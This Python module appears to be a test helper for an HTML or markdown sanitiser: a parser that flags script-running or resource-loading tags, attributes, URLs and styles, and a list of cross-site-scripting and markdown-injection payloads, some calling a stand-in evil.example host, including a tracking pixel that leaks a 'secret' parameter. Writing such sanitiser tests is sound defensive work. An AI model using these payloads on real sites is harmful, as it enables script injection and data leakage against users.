"""HTML in, what it could run or load out."""

from __future__ import annotations

import re
from html.parser import HTMLParser

_RUNS_OR_LOADS = {
    "script",
    "img",
    "iframe",
    "object",
    "embed",
    "link",
    "base",
    "meta",
    "form",
    "input",
    "video",
    "audio",
    "svg",
    "math",
    "source",
}
_URLS = {"href", "src", "srcset", "action", "formaction", "background", "poster", "data", "xlink:href", "ping", "cite"}
_THUMBNAIL = re.compile(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/]{1,8150}=*")  # stands in the page itself
_OUR_STYLES = re.compile(
    r"border-left:3px solid;padding:\.5em \.9em;margin:\.3em 0|text-align:(left|right|center)"
    r"|min-width:18em|display:grid;grid-template-columns:[\w(),.%*/ -]+;gap:0\.6em;align-items:start"
)


class Page(HTMLParser):
    """A parsed page: its elements as (tag, attributes), its text, and what is wrong with it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.sheets = ""
        self.wrong: list[str] = []
        self._in_style = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_style = tag == "style"
        self.elements.append((tag, dict(attrs)))
        if tag == "img" and _THUMBNAIL.fullmatch(dict(attrs).get("src") or "") and dict(attrs).keys() <= {"src", "alt", "title"}:
            return
        if tag in _RUNS_OR_LOADS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("id", "srcdoc", "http-equiv"):
                self.wrong.append(f"<{tag} {name}>")
            if name in _URLS and (tag != "a" or name != "href" or not re.match(r"(https?|mailto):", value or "")):
                self.wrong.append(f"<{tag} {name}={value!r}>")
            if name == "style" and not _OUR_STYLES.fullmatch(value or ""):
                self.wrong.append(f"<{tag} style={value!r}>")
        if tag == "a" and "href" in dict(attrs) and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.wrong.append("<a> without rel")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False if tag == "style" else self._in_style

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.sheets += data
            if re.search(r"url\(|@import|expression\(", data):
                self.wrong.append("a style sheet that loads")
        else:
            self.text += data

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]


ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script>alert(1)</script>",
    "</pre></code></article><iframe src=//evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<!--><script>alert(1)</script>-->",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](  data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/x)",
    "[x](/api/shutdown)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![pixel](http://evil.example/?q=secret)",
    "![pixel][p]\n\n[p]: http://evil.example/pixel.png",
    "[![in](http://evil.example/a.png)](http://evil.example)",
    '[x](http://evil.example "onmouseover=alert(1) \\" onload=\\"x")',
    '```python" onload="alert(1)\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<p style='background:url(http://evil.example)'>x</p>",
    "<div id=x class=tlm-badge>live</div><form action=/x><input name=a></form>",
    "<a href=http://evil.example target=_self ping=//evil.example>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0><base href=//evil.example>",
    "\x00<scr\x00ipt>alert(1)</script>",
)
